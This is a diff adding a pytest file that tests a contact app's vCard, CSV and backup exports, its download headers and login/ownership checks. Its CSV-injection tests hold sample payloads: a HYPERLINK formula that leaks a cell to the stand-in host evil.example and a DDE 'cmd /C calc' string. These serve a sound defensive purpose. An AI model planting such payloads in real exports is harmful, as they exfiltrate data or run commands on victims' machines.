@@ -1,0 +1,203 @@
+"""Exports: vCards that address books read back, CSV that spreadsheets open safely, and who may download."""
+
+import codecs
+import csv
+import io
+import json
+
+import pytest
+import vobject
+from filled_account import NOTES_WITH_PUNCTUATION, account, fill
+
+from webapp.exports.spreadsheet import COLUMNS, neutralised
+
+
+@pytest.fixture
+def ids(client, user):
+    return fill(account().id)
+
+
+def cards(response):
+    assert response.status_code == 200
+    assert response.headers["Content-Type"] == "text/vcard; charset=utf-8"
+    return list(vobject.readComponents(response.get_data(as_text=True)))
+
+
+def rows(response):
+    assert response.status_code == 200
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    data = response.get_data()
+    assert data.startswith(codecs.BOM_UTF8), "Excel needs the byte order mark to read UTF-8"
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def by_name(found):
+    return {c.fn.value: c for c in found}
+
+
+def test_a_persons_vcard_reads_back_with_every_field(client, ids):
+    (card,) = cards(client.get(f"/people/{ids['bruce']}/contact.vcf"))
+    assert card.version.value == "3.0"
+    assert card.fn.value == "李小龍"
+    assert card.n.value.given == "李小龍" and card.n.value.family == ""
+    assert card.org.value == ["Golden Harvest, Ltd."]
+    assert card.title.value == "CTO; founder"
+    assert card.email.value == "bruce@example.com" and card.email.params["TYPE"] == ["INTERNET"]
+    assert card.url.value == "https://www.linkedin.com/in/bruce-lee/"
+    assert card.x_socialprofile.value == "https://www.linkedin.com/in/bruce-lee/"
+    assert card.x_socialprofile.params["TYPE"] == ["linkedin"]
+    assert sorted(card.categories.value) == ["founder", "rust", "日本語"]
+    note = card.note.value
+    assert "Met at 東京 Rust 勉強会 on 2026-01-15:\nRust in games" in note
+    assert ("Met at PyData Berlin: Dezember, Käse & Pizza on 2026-12-03 (Valeska-Gert-Straße 5, Berlin):\n"
+            + NOTES_WITH_PUNCTUATION) in note
+    assert note.index("東京") < note.index("PyData"), "meetings are listed oldest first"
+
+
+def test_a_name_is_split_into_given_and_family_names(client, ids):
+    (card,) = cards(client.get(f"/people/{ids['zoe']}/contact.vcf"))
+    assert card.fn.value == "Zoë Ægirsdóttir"
+    assert (card.n.value.given, card.n.value.family) == ("Zoë", "Ægirsdóttir")
+    assert card.org.value == ["Ørsted"]
+    assert card.note.value.startswith("red jacket, Postgres talk\n\n")
+    assert not hasattr(card, "email") and not hasattr(card, "url")
+
+
+def test_someone_whose_name_was_not_caught_is_saved_under_the_description(client, ids):
+    (card,) = cards(client.get(f"/people/{ids['nameless']}/contact.vcf"))
+    assert card.fn.value == 'tall guy; asked about "sync", Kotlin'
+    assert card.n.value.given == card.fn.value
+
+
+def test_everyone_as_vcards_gives_one_card_per_person(client, ids):
+    found = by_name(cards(client.get("/export/contacts.vcf")))
+    assert set(found) == {"李小龍", "Zoë Ægirsdóttir", 'tall guy; asked about "sync", Kotlin',
+                          '=HYPERLINK("http://evil.example/?"&A1,"click")'}
+    assert len({c.uid.value for c in found.values()}) == 4
+
+
+def test_the_same_person_exported_twice_keeps_the_same_card_uid(client, ids):
+    first = cards(client.get(f"/people/{ids['bruce']}/contact.vcf"))[0].uid.value
+    again = by_name(cards(client.get("/export/contacts.vcf")))["李小龍"].uid.value
+    assert first == again
+
+
+def test_an_events_vcards_are_everyone_met_there_and_nobody_else(client, ids):
+    assert [c.fn.value for c in cards(client.get(f"/events/{ids['tokyo']}/contacts.vcf"))] == ["李小龍"]
+    assert len(cards(client.get(f"/events/{ids['pydata']}/contacts.vcf"))) == 4
+
+
+def test_downloads_are_named_for_the_event_in_utf8(client, ids):
+    response = client.get(f"/events/{ids['tokyo']}/contacts.vcf")
+    disposition = response.headers["Content-Disposition"]
+    assert disposition.startswith('attachment; filename="')
+    assert "filename*=UTF-8''%E6%9D%B1%E4%BA%AC%20Rust" in disposition
+    assert response.headers["Cache-Control"] == "private, no-store"
+    response = client.get(f"/events/{ids['pydata']}/people.csv")
+    disposition = response.headers["Content-Disposition"]
+    assert 'filename="PyData Berlin Dezember, Kase & Pizza 2026-12-03.csv"' in disposition
+
+
+def test_the_csv_reads_back_with_commas_quotes_newlines_and_non_latin_names(client, ids):
+    table = rows(client.get("/export/people.csv"))
+    assert table[0] == COLUMNS
+    records = [dict(zip(COLUMNS, r, strict=True)) for r in table[1:]]
+    bruce_at_pydata = next(r for r in records if r["Name"] == "李小龍" and r["Event"].startswith("PyData"))
+    assert bruce_at_pydata["Notes"] == NOTES_WITH_PUNCTUATION
+    assert bruce_at_pydata["Company"] == "Golden Harvest, Ltd."
+    assert bruce_at_pydata["Tags"] == "founder, rust, 日本語"
+    assert bruce_at_pydata["Event"] == "PyData Berlin: Dezember, Käse & Pizza"
+    assert bruce_at_pydata["Event date"] == "2026-12-03"
+    assert bruce_at_pydata["Hiring"] == "yes" and bruce_at_pydata["Connected on LinkedIn"] == "yes"
+    zoe = next(r for r in records if r["Name"] == "Zoë Ægirsdóttir")
+    assert zoe["Description"] == "red jacket, Postgres talk"
+    assert zoe["Notes"] == "Ørsted is hiring; ask Zoë about Kafka"
+    nameless = 'tall guy; asked about "sync", Kotlin'
+    assert any(r["Description"] == nameless and r["Name"] == "" for r in records)
+
+
+def test_the_csv_has_one_row_per_person_per_event(client, ids):
+    records = rows(client.get("/export/people.csv"))[1:]
+    assert len(records) == 5
+    assert sorted(r[9] for r in records if r[0] == "李小龍") == ["PyData Berlin: Dezember, Käse & Pizza",
+                                                                 "東京 Rust 勉強会"]
+
+
+def test_an_events_csv_has_only_the_rows_for_that_event(client, ids):
+    records = rows(client.get(f"/events/{ids['tokyo']}/people.csv"))[1:]
+    assert [(r[0], r[9], r[12]) for r in records] == [("李小龍", "東京 Rust 勉強会", "Rust in games")]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client, ids):
+    records = rows(client.get("/export/people.csv"))[1:]
+    sneaky = dict(zip(COLUMNS, next(r for r in records if "HYPERLINK" in r[0]), strict=True))
+    assert sneaky["Name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    assert sneaky["Company"] == "'+1 (555) 0100"
+    assert sneaky["Role"] == "'-2+3"
+    assert sneaky["Email"] == "'@attacker"
+    assert sneaky["Notes"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    for record in records:
+        for cell in record:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+@pytest.mark.parametrize("cell, safe", [
+    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Ada", "Ada"), ("a=b", "a=b"), ("", ""), ("'quoted", "'quoted"),
+])
+def test_a_cell_is_neutralised_only_when_it_starts_like_a_formula(cell, safe):
+    assert neutralised(cell) == safe
+
+
+def test_exports_of_an_empty_account_are_valid_empty_files(client, user):
+    assert cards(client.get("/export/contacts.vcf")) == []
+    assert rows(client.get("/export/people.csv")) == [COLUMNS]
+    document = json.loads(client.get("/export/backup.json").get_data(as_text=True))
+    assert document["format"] == "hallway-backup" and document["version"] == 1
+    for part in ("events", "people", "conversations", "tags", "person_tags", "follow_ups", "outcomes"):
+        assert document[part] == []
+    assert "email" not in document["profile"] and "password_hash" not in document["profile"]
+
+
+def test_an_event_with_nobody_met_exports_empty_files(client, user):
+    from test_events import add_event
+
+    url = add_event(client, name="Quiet evening")
+    assert cards(client.get(url + "/contacts.vcf")) == []
+    assert rows(client.get(url + "/people.csv")) == [COLUMNS]
+
+
+def test_another_users_event_and_person_exports_are_not_found(client, auth, ids):
+    auth.logout()
+    auth.signup(email="eve@example.com", name="Eve")
+    for url in (f"/events/{ids['pydata']}/contacts.vcf", f"/events/{ids['pydata']}/people.csv",
+                f"/people/{ids['bruce']}/contact.vcf", "/events/999999/contacts.vcf",
+                "/people/999999/contact.vcf"):
+        response = client.get(url)
+        assert response.status_code == 404, url
+        assert "李小龍" not in response.get_data(as_text=True)
+    assert cards(client.get("/export/contacts.vcf")) == []
+    assert json.loads(client.get("/export/backup.json").get_data())["people"] == []
+
+
+def test_exports_need_a_login(client):
+    for url in ("/export", "/export/contacts.vcf", "/export/people.csv", "/export/backup.json",
+                "/events/1/contacts.vcf", "/people/1/contact.vcf", "/import/calendar", "/import/backup"):
+        response = client.get(url)
+        assert response.status_code == 302 and "/login" in response.headers["Location"], url
+
+
+def test_the_export_page_is_one_tap_from_the_profile_and_lists_everything(client, user):
+    assert 'href="/export"' in client.get("/profile").get_data(as_text=True)
+    page = client.get("/export").get_data(as_text=True)
+    for link in ("/export/contacts.vcf", "/export/people.csv", "/export/backup.json", "/import/calendar",
+                 "/import/backup"):
+        assert f'href="{link}"' in page
+
+
+def test_person_and_event_pages_link_to_their_exports(client, ids):
+    page = client.get(f"/people/{ids['bruce']}").get_data(as_text=True)
+    assert f'href="/people/{ids["bruce"]}/contact.vcf"' in page and "Save as contact" in page
+    event = f"/events/{ids['pydata']}"
+    page = client.get(event).get_data(as_text=True)
+    assert f'href="{event}/contacts.vcf"' in page and f'href="{event}/people.csv"' in page
